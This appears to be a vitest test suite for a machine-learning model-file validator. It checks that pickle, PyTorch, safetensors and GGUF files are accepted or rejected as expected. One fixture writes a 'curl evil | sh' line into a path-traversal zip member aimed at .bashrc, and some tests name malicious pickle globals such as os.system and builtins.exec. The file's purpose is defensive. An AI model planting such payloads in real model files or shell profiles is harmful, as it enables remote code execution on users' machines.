import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type ValidationReport, validateModel } from "../../src/model/validate.js";
import {
  legacyTorch,
  memoSmuggled,
  op,
  osSystem,
  pickle,
  torchStateDict,
} from "../fixtures/model/pickles.js";
import { gguf, goodSafetensors, safetensors } from "../fixtures/model/weights.js";
import { torchZip, zip } from "../fixtures/model/zip.js";
import { addModel } from "./model-fixtures.js";

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "modelship-formats-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const codes = (report: ValidationReport) => report.findings.map((f) => f.code).sort();

async function put(relative: string, data: Uint8Array | string): Promise<string> {
  const path = join(dir, relative);
  await mkdir(join(path, ".."), { recursive: true });
  await writeFile(path, data);
  return path;
}

describe("pickles and PyTorch checkpoints", () => {
  it("accepts a torch zip checkpoint and a legacy torch.save file", async () => {
    const zipReport = await validateModel(await put("model.pt", torchZip(torchStateDict())));
    expect(zipReport.accepted).toBe(true);
    expect(zipReport.format).toBe("pytorch");
    expect(zipReport.findings).toEqual([]);
    const legacy = await validateModel(await put("legacy.bin", legacyTorch()));
    expect(legacy.format).toBe("pytorch");
    expect(legacy.accepted).toBe(true);
  });

  it("rejects os.system in a pickle, naming the global, file and offset", async () => {
    const report = await validateModel(await put("model.pkl", osSystem()));
    expect(report.accepted).toBe(false);
    expect(report.findings).toEqual([
      expect.objectContaining({
        severity: "error",
        code: "PICKLE_GLOBAL_DANGEROUS",
        file: "model.pkl",
        global: "os.system",
        offset: expect.any(Number),
      }),
    ]);
  });

  it("rejects a dangerous global smuggled through the memo inside a torch zip", async () => {
    const report = await validateModel(await put("model.pth", torchZip(memoSmuggled("builtins", "exec"))));
    expect(report.accepted).toBe(false);
    expect(report.findings[0]).toMatchObject({
      code: "PICKLE_GLOBAL_DANGEROUS",
      global: "builtins.exec",
      key: "archive/data.pkl",
    });
  });

  it("warns on unknown globals, rejects them under strict policy, accepts them when allowed", async () => {
    const path = await put(
      "model.pkl",
      pickle(op.proto(2), op.global("__main__", "Net"), op.emptyTuple, op.reduce, op.stop),
    );
    const lenient = await validateModel(path);
    expect(lenient.accepted).toBe(true);
    expect(lenient.findings).toEqual([
      expect.objectContaining({ severity: "warning", code: "PICKLE_GLOBAL_UNKNOWN", global: "__main__.Net" }),
    ]);
    const strict = await validateModel(path, { policy: { pickle: "strict" } });
    expect(strict.accepted).toBe(false);
    const allowed = await validateModel(path, {
      policy: { pickle: "strict", allowGlobals: ["__main__.Net"] },
    });
    expect(allowed.accepted).toBe(true);
    expect(allowed.findings).toEqual([]);
  });

  it("rejects a malformed pickle and a zip member that escapes", async () => {
    expect(codes(await validateModel(await put("a/model.pkl", torchStateDict().subarray(0, 30))))).toEqual([
      "PICKLE_MALFORMED",
    ]);
    const evil = torchZip(torchStateDict(), [{ name: "../../../home/x/.bashrc", data: "curl evil | sh" }]);
    const report = await validateModel(await put("b/model.pt", evil));
    expect(report.accepted).toBe(false);
    expect(report.findings).toEqual([
      expect.objectContaining({ code: "ZIP_MEMBER_PATH_UNSAFE", key: "../../../home/x/.bashrc" }),
    ]);
  });

  it("rejects a .pt zip without data.pkl and a .pkl that is really safetensors", async () => {
    const noData = zip([{ name: "archive/other.txt", data: "x" }]);
    expect(codes(await validateModel(await put("a/model.pt", noData)))).toEqual(["PYTORCH_NO_DATA_PKL"]);
    expect(codes(await validateModel(await put("c/model.pt", "")))).toEqual(["ZIP_INVALID"]);
    expect(codes(await validateModel(await put("b/model.pkl", goodSafetensors())))).toEqual([
      "FORMAT_MISMATCH",
    ]);
  });
});

describe("safetensors", () => {
  it("accepts a well-formed file and reports its tensors", async () => {
    const report = await validateModel(await put("model.safetensors", goodSafetensors()));
    expect(report.accepted).toBe(true);
    expect(report.format).toBe("safetensors");
    expect(report.artifacts[0]?.safetensors).toMatchObject({
      tensors: 2,
      dtypes: ["F32"],
      metadata: { format: "pt" },
    });
  });

  const F32 = (shape: number[], offsets: [number, number]) => ({
    dtype: "F32",
    shape,
    data_offsets: offsets,
  });
  it.each([
    [
      "a header length past the file",
      safetensors({}, 0, { headerLength: 1000n }),
      "SAFETENSORS_HEADER_INVALID",
    ],
    [
      "a header length above 100 MB",
      safetensors({}, 0, { headerLength: 200_000_000n }),
      "SAFETENSORS_HEADER_TOO_LARGE",
    ],
    [
      "a header that is not JSON",
      safetensors({}, 0, { rawHeader: "{not json" }),
      "SAFETENSORS_HEADER_INVALID",
    ],
    [
      "an unknown dtype",
      safetensors({ a: { dtype: "F128", shape: [1], data_offsets: [0, 16] } }, 16),
      "SAFETENSORS_DTYPE_UNKNOWN",
    ],
    ["shape × dtype ≠ span", safetensors({ a: F32([3], [0, 8]) }, 8), "SAFETENSORS_SIZE_MISMATCH"],
    ["offsets past the data", safetensors({ a: F32([4], [0, 16]) }, 8), "SAFETENSORS_OFFSET_OUT_OF_RANGE"],
    [
      "overlapping tensors",
      safetensors({ a: F32([2], [0, 8]), b: F32([2], [4, 12]) }, 12),
      "SAFETENSORS_OVERLAP",
    ],
    [
      "a gap between tensors",
      safetensors({ a: F32([1], [0, 4]), b: F32([1], [8, 12]) }, 12),
      "SAFETENSORS_GAP",
    ],
    ["bytes after the last tensor", safetensors({ a: F32([1], [0, 4]) }, 12), "SAFETENSORS_GAP"],
    [
      "non-string metadata",
      safetensors({ a: F32([1], [0, 4]) }, 4, { metadata: { n: 1 } }),
      "SAFETENSORS_METADATA_INVALID",
    ],
    ["negative dims", safetensors({ a: F32([-1], [0, 4]) }, 4), "SAFETENSORS_TENSOR_INVALID"],
  ])("rejects %s", async (_name, data, code) => {
    const report = await validateModel(await put("model.safetensors", data));
    expect(report.accepted).toBe(false);
    expect(report.findings.map((f) => f.code)).toContain(code);
  });
});

describe("GGUF", () => {
  it("accepts a well-formed file and reports the architecture", async () => {
    const report = await validateModel(await put("model.gguf", gguf()));
    expect(report.accepted).toBe(true);
    expect(report.format).toBe("gguf");
    expect(report.artifacts[0]?.gguf).toMatchObject({ version: 3, tensors: 1, architecture: "llama" });
  });

  it.each([
    ["an unknown version", gguf({ version: 9 }), "version 9"],
    ["a tensor count larger than the file", gguf({ tensorCount: 2n ** 40n }), "tensor count"],
    ["a metadata count larger than the file", gguf({ kvCount: 2n ** 62n }), "metadata count"],
    [
      "a bad value type",
      gguf({ kv: [["x", { type: "u32", value: 1 }]] }).map((b, i) => (i === 33 ? 99 : b)),
      "value type 99",
    ],
    [
      "a tensor past the data",
      gguf({ tensors: [{ name: "w", dims: [1000], type: 0, offset: 0 }] }),
      "past the",
    ],
    ["a misaligned tensor", gguf({ tensors: [{ name: "w", dims: [1], type: 0, offset: 3 }] }), "not aligned"],
  ])("rejects %s", async (_name, data, why) => {
    const report = await validateModel(await put("model.gguf", data));
    expect(report.accepted).toBe(false);
    expect(report.findings[0]?.code).toBe("GGUF_INVALID");
    expect(report.findings[0]?.message).toContain(why);
  });
});

describe("model directories", () => {
  it("recognises a Hugging Face directory, validates its weights and lists the rest as data", async () => {
    await put("config.json", JSON.stringify({ model_type: "bert", architectures: ["BertModel"] }));
    await put("tokenizer.json", "{}");
    await put("model.safetensors", goodSafetensors());
    const report = await validateModel(dir);
    expect(report.accepted).toBe(true);
    expect(report.format).toBe("huggingface");
    expect(report.container?.details).toMatchObject({ modelType: "bert", tokenizer: ["tokenizer.json"] });
    expect(Object.fromEntries(report.artifacts.map((a) => [a.file, a.format]))).toEqual({
      "config.json": "data",
      "model.safetensors": "safetensors",
      "tokenizer.json": "data",
    });
  });

  it("rejects a Hugging Face directory whose pickle weights are malicious or whose shards are missing", async () => {
    await put("config.json", "{}");
    await put("pytorch_model.bin", torchZip(osSystem()));
    await put(
      "model.safetensors.index.json",
      JSON.stringify({ weight_map: { a: "model-00001-of-00002.safetensors" } }),
    );
    const report = await validateModel(dir);
    expect(report.accepted).toBe(false);
    expect(codes(report)).toEqual(["HF_SHARD_MISSING", "PICKLE_GLOBAL_DANGEROUS"]);
  });

  it("reads an MLflow signature and validates the model file it wraps", async () => {
    const signature = {
      inputs: JSON.stringify([
        { name: "x", type: "tensor", "tensor-spec": { dtype: "float32", shape: [-1, 2] } },
      ]),
      outputs: JSON.stringify([
        { name: "y", type: "tensor", "tensor-spec": { dtype: "float32", shape: [-1, 2] } },
      ]),
    };
    await put(
      "MLmodel",
      `flavors:\n  onnx:\n    onnx_version: 1.15.0\n    data: model.onnx\nsignature:\n  inputs: '${signature.inputs}'\n  outputs: '${signature.outputs}'\n`,
    );
    await put("model.onnx", addModel());
    const report = await validateModel(dir);
    expect(report.accepted).toBe(true);
    expect(report.format).toBe("mlflow");
    expect(report.container?.details).toEqual({ flavors: ["onnx"] });
    expect(report.signature?.inputs[0]).toEqual({ name: "x", dtype: "FP32", shape: ["N", 2] });
  });

  it("recognises a SavedModel directory", async () => {
    await put("saved_model.pb", new Uint8Array([0x08, 0x01, 0x12, 0x00]));
    await put("variables/variables.index", "x");
    const report = await validateModel(dir);
    expect(report.format).toBe("savedmodel");
    expect(report.accepted).toBe(true);
  });

  it("rejects a single file it cannot recognise", async () => {
    const report = await validateModel(await put("weights.dat", "just bytes"));
    expect(report.accepted).toBe(false);
    expect(codes(report)).toEqual(["MODEL_FORMAT_UNKNOWN"]);
  });
});

describe("policy", () => {
  it("rejects formats not allowed, models too large and missing required files", async () => {
    await put("model.pkl", torchStateDict());
    await put("model.onnx", addModel());
    const report = await validateModel(dir, {
      policy: { formats: ["onnx"], maxSizeBytes: 100, requiredFiles: ["README.md"] },
    });
    expect(report.accepted).toBe(false);
    expect(codes(report)).toEqual([
      "POLICY_FORMAT_NOT_ALLOWED",
      "POLICY_MODEL_TOO_LARGE",
      "POLICY_REQUIRED_FILE_MISSING",
    ]);
    expect(report.findings.find((f) => f.code === "POLICY_FORMAT_NOT_ALLOWED")?.file).toBe("model.pkl");
  });
});
